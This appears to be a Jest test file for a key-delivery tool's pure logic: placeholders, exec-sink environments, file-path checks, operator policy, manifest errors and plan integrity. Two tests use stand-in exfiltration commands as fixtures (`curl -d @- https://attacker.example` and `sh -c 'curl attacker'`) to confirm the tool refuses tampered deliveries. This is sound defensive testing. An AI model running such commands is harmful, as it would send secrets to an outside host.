/**
 * Secret delivery, the pure parts: placeholders, planned deliveries, the environment of an exec sink, file sink
 * paths and the operator's policy; and the manifest's `deliver:` rules, each problem at its line and column.
 */
import {
  deliveryEnvironment,
  deliveryFileProblem,
  deliveryLine,
  deliveryPolicy,
  expandPlaceholders,
  plannedDeliveries,
  sameDeliveries,
  unknownPlaceholders,
} from '../../src/delivery';
import { parseManifestText } from '../../src/manifest';
import { buildPlan, parsePlanFile, planProject, planToJson, savedProjectProblems } from '../../src/reconcile';
import { ADMIN, entry } from './reconcile-fixtures';
import { resultLines } from '../../src/cli/delivery';

describe('placeholders', () => {
  test.each([
    { name: 'every known placeholder', arg: '{project}/{description}/{name}/{uuid}', uuid: 'u-1', expected: 'demo/CI uploader/SCALEFLEX_KEY_DEMO_CI_UPLOADER/u-1' },
    { name: '{uuid} stays as written before the key exists', arg: 'k-{uuid}', uuid: undefined, expected: 'k-{uuid}' },
    { name: 'an unknown placeholder stays as written', arg: '{nope}-{name}', uuid: undefined, expected: '{nope}-SCALEFLEX_KEY_DEMO_CI_UPLOADER' },
    { name: 'text without placeholders is unchanged', arg: 'value=-', uuid: undefined, expected: 'value=-' },
  ])('$name', ({ arg, uuid, expected }) => {
    expect(expandPlaceholders(arg, { project: 'demo', description: 'CI uploader', ...(uuid ? { uuid } : {}) })).toBe(expected);
  });

  test('unknown placeholders are listed, known ones are not', () => {
    expect(unknownPlaceholders('{name}{Name}{uid}{}')).toEqual(['Name', 'uid', '']);
    expect(unknownPlaceholders('{project}{description}{name}{uuid}')).toEqual([]);
  });
});

test('a create change shows the sinks with placeholders expanded but {uuid}, and one line each', () => {
  const deliveries = plannedDeliveries('demo', {
    description: 'CI uploader',
    deliver: [{ exec: ['gh', 'secret', 'set', '{name}', '--body-from', '{uuid}'], timeout: 5 }, { file: 'secrets/demo.env' }],
  });
  expect(deliveries).toEqual([
    { kind: 'exec', argv: ['gh', 'secret', 'set', 'SCALEFLEX_KEY_DEMO_CI_UPLOADER', '--body-from', '{uuid}'] },
    { kind: 'file', path: 'secrets/demo.env' },
  ]);
  expect(deliveries.map(deliveryLine)).toEqual(['exec gh secret set SCALEFLEX_KEY_DEMO_CI_UPLOADER --body-from {uuid} (stdin)', 'file secrets/demo.env']);
  expect(deliveryLine({ kind: 'exec', argv: ['x', 'two words', 'bell\u0007'] })).toBe('exec x "two words" "bell\\u0007" (stdin)');
  expect(plannedDeliveries('demo', { description: 'x' })).toEqual([]);
  expect(sameDeliveries(deliveries, [...deliveries])).toBe(true);
  expect(sameDeliveries(deliveries, deliveries.slice(1))).toBe(false);
  expect(sameDeliveries(undefined, [])).toBe(true);
});

describe('the environment of an exec sink', () => {
  const ctx = { project: 'demo', description: 'CI uploader', uuid: 'u-1' };
  const parent = {
    PATH: '/bin',
    HOME: '/home/ci',
    SCALEFLEX_API_KEY: 'admin',
    SCALEFLEX_API_KEY_DEMO: 'admin-demo',
    MY_ADMIN: 'allowed-credential',
    GH_TOKEN: 'gh',
    VAULT_ADDR: 'https://vault',
    OTHER: 'x',
  };

  test('is PATH, HOME and the metadata only, by default', () => {
    expect(deliveryEnvironment(parent, [], ctx)).toEqual({
      PATH: '/bin',
      HOME: '/home/ci',
      SCALEFLEX_KEY_PROJECT: 'demo',
      SCALEFLEX_KEY_UUID: 'u-1',
      SCALEFLEX_KEY_DESCRIPTION: 'CI uploader',
      SCALEFLEX_KEY_NAME: 'SCALEFLEX_KEY_DEMO_CI_UPLOADER',
    });
  });

  test('adds what the operator passes on, but never a SCALEFLEX_ variable or an allowed credential variable', () => {
    const env = deliveryEnvironment(parent, ['GH_TOKEN', 'VAULT_*', 'SCALEFLEX_*', 'MY_*'], ctx, ['SCALEFLEX_*', 'MY_ADMIN']);
    expect(env.GH_TOKEN).toBe('gh');
    expect(env.VAULT_ADDR).toBe('https://vault');
    expect(env.OTHER).toBeUndefined();
    expect(env.SCALEFLEX_API_KEY).toBeUndefined();
    expect(env.SCALEFLEX_API_KEY_DEMO).toBeUndefined();
    expect(env.MY_ADMIN).toBeUndefined();
  });
});

test.each([
  { file: 'secrets/demo.env', problem: undefined },
  { file: './out/keys.json', problem: undefined },
  { file: '.env', problem: undefined },
  { file: 'a/../b.env', problem: undefined },
  { file: '/etc/demo.env', problem: 'absolute path' },
  { file: 'C:\\x.env', problem: 'absolute path' },
  { file: '../demo.env', problem: "leaves the manifest's directory" },
  { file: 'a/../../demo.env', problem: "leaves the manifest's directory" },
  { file: 'keys.yaml', problem: 'must end in .json or .env' },
  { file: './sub/../scaleflex-keys.yaml', problem: 'is the manifest itself' },
  { file: '.', problem: 'names a directory' },
])('file sink $file: $problem', ({ file, problem }) => {
  const found = deliveryFileProblem(file, 'scaleflex-keys.yaml');
  if (problem === undefined) expect(found).toBeUndefined();
  else expect(found).toContain(problem);
});

test.each([
  { name: 'unset: exec allowed', env: {}, flags: {}, allowed: true, problem: false },
  { name: 'allow', env: { SCALEFLEX_DELIVERY_EXEC: 'allow' }, flags: {}, allowed: true, problem: false },
  { name: 'deny', env: { SCALEFLEX_DELIVERY_EXEC: 'deny' }, flags: {}, allowed: false, problem: false },
  { name: 'DENY, any case', env: { SCALEFLEX_DELIVERY_EXEC: 'DENY' }, flags: {}, allowed: false, problem: false },
  { name: '--no-exec-sinks', env: {}, flags: { execSinks: false }, allowed: false, problem: false },
  { name: 'the flag cannot re-allow what the variable denies', env: { SCALEFLEX_DELIVERY_EXEC: 'deny' }, flags: { execSinks: true }, allowed: false, problem: false },
  { name: 'an unknown value denies and is a problem', env: { SCALEFLEX_DELIVERY_EXEC: 'no' }, flags: {}, allowed: false, problem: true },
])('operator policy: $name', ({ env, flags, allowed, problem }) => {
  const result = deliveryPolicy(env, flags);
  expect(result.policy.execAllowed).toBe(allowed);
  expect(result.problem !== undefined).toBe(problem);
});

test('the operator passes variables on with SCALEFLEX_DELIVERY_PASS_ENV', () => {
  expect(deliveryPolicy({ SCALEFLEX_DELIVERY_PASS_ENV: ' GH_TOKEN, VAULT_* ,' }).policy.passEnv).toEqual(['GH_TOKEN', 'VAULT_*']);
});

describe('deliver: in the manifest', () => {
  const manifest = (project: string, key: string) =>
    `version: 1\nprojects:\n  - token: demo\n${project}    keys:\n      - description: CI uploader\n        permissions: [OBJECTS_LIST]\n${key}`;

  test('the effective list is the key own, else the project one; [] means none', () => {
    const text =
      'version: 1\nprojects:\n  - token: demo\n    deliver: [{ exec: [gh, secret, set, "{name}"], timeout: 30 }, { file: s/demo.env }]\n    keys:\n' +
      '      - description: a\n        permissions: [OBJECTS_LIST]\n' +
      '      - description: b\n        permissions: [OBJECTS_LIST]\n        deliver: [{ file: s/b.json }]\n' +
      '      - description: c\n        permissions: [OBJECTS_LIST]\n        deliver: []\n';
    const { state, diagnostics } = parseManifestText(text, 'm.yaml');
    expect(diagnostics).toEqual([]);
    const [a, b, c] = state!.projects[0]!.keys;
    expect(state!.projects[0]!.deliver).toEqual([{ exec: ['gh', 'secret', 'set', '{name}'], timeout: 30 }, { file: 's/demo.env' }]);
    expect(a!.deliver).toEqual(state!.projects[0]!.deliver);
    expect(b!.deliver).toEqual([{ file: 's/b.json' }]);
    expect(c!.deliver).toBeUndefined();
  });

  test('a manifest without deliver: has no deliver anywhere in its state', () => {
    const { state } = parseManifestText(manifest('', ''), 'm.yaml');
    expect(state!.projects[0]!.deliver).toBeUndefined();
    expect(state!.projects[0]!.keys[0]!.deliver).toBeUndefined();
  });

  test.each([
    { name: 'an unknown placeholder', project: '', key: '        deliver: [{ exec: [gh, secret, set, "{nmae}"] }]\n', at: '7:45', message: 'unknown placeholder {nmae}' },
    { name: 'an empty argv', project: '', key: '        deliver: [{ exec: [] }]\n', at: '7:27', message: 'deliver `exec` is empty' },
    { name: 'a placeholder in the program', project: '', key: '        deliver: [{ exec: ["{name}"] }]\n', at: '7:28', message: 'may not contain a placeholder' },
    { name: 'a secret pasted into an argument', project: '', key: `        deliver: [{ exec: [vault, put, "value=${'ab'.repeat(20)}"] }]\n`, at: '7:40', message: 'looks like a secret value' },
    { name: 'both exec and file', project: '', key: '        deliver: [{ exec: [gh], file: s.env }]\n', at: '7:19', message: 'exactly one of `exec` or `file`' },
    { name: 'a timeout on a file sink', project: '', key: '        deliver: [{ file: s.env, timeout: 5 }]\n', at: '7:43', message: '`timeout` applies to `exec` sinks only' },
    { name: 'a timeout out of range', project: '', key: '        deliver: [{ exec: [gh], timeout: 7200 }]\n', at: '7:42', message: '3600' },
    { name: 'a file outside the tree', project: '    deliver: [{ file: ../x.env }]\n', key: '', at: '4:23', message: "leaves the manifest's directory" },
    { name: 'the manifest itself', project: '    deliver: [{ file: ./m.yaml }]\n', key: '', at: '4:23', message: 'is the manifest itself' },
    { name: 'an unknown field', project: '    deliver: [{ exce: [gh] }]\n', key: '', at: '4:17', message: 'exce' },
  ])('$name is an error at its line and column', ({ project, key, at, message }) => {
    const { state, diagnostics } = parseManifestText(manifest(project, key), 'm.yaml');
    expect(state).toBeUndefined();
    const errors = diagnostics.filter((d) => d.severity === 'error');
    expect(errors.map((d) => `${d.line}:${d.column}`)).toEqual([at]);
    expect(errors[0]!.message).toContain(message);
    expect(errors[0]!.message).not.toMatch(/[0-9a-f]{32}/);
  });
});

describe('a saved plan binds to its deliveries', () => {
  const desired = { token: 'demo', unmanaged: 'ignore' as const, keys: [entry('CI uploader', ['OBJECTS_LIST'], { deliver: [{ exec: ['gh', 'secret', 'set', '{name}'] }] })] };
  const saved = planProject({ desired, live: [ADMIN], selfKey: ADMIN, apiUrl: 'https://api.filerobot.com' });

  test('the plan file round-trips the deliveries', () => {
    const plan = buildPlan([saved]);
    expect(parsePlanFile(planToJson(plan), 'plan.json').projects[0]!.changes).toEqual(saved.changes);
    expect(saved.changes[0]).toMatchObject({ kind: 'create', deliveries: [{ kind: 'exec', argv: ['gh', 'secret', 'set', 'SCALEFLEX_KEY_DEMO_CI_UPLOADER'] }] });
  });

  test('a manifest whose deliver: changed is refused', () => {
    const edited = { ...desired, keys: [entry('CI uploader', ['OBJECTS_LIST'], { deliver: [{ exec: ['curl', '-d', '@-', 'https://attacker.example'] }] })] };
    expect(savedProjectProblems({ saved, desired: edited, live: [ADMIN], selfKey: ADMIN })[0]).toContain('the manifest changed since this plan was made');
    expect(savedProjectProblems({ saved, desired, live: [ADMIN], selfKey: ADMIN })).toEqual([]);
  });

  test('a plan file whose deliveries were edited by hand is refused, even with the right fingerprint', () => {
    const create = saved.changes[0]!;
    const tampered = { ...saved, changes: [{ ...create, deliveries: [{ kind: 'exec' as const, argv: ['sh', '-c', 'curl attacker'] }] }] };
    expect(savedProjectProblems({ saved: tampered, desired, live: [ADMIN], selfKey: ADMIN })[0]).toContain('is not what the manifest asks for');
  });
});

test("a sink's output is indented behind `| `, control characters shown, so it cannot repaint lines or start workflow commands", () => {
  const text = resultLines([
    { delivery: { kind: 'exec', argv: ['gh', 'secret', 'set', 'X'] }, ok: true, detail: '', output: '\u001b[31mred\r\n::error::boom\nlast\n' },
    { delivery: { kind: 'file', path: 's.env' }, ok: false, detail: 'cannot write', output: '' },
  ]);
  expect(text).toBe(
    '    → delivered to exec gh secret set X (stdin)\n' +
      '      | \\u001B[31mred\n' +
      '      | ::error::boom\n' +
      '      | last\n' +
      '    ! delivery to file s.env failed: cannot write\n',
  );
});
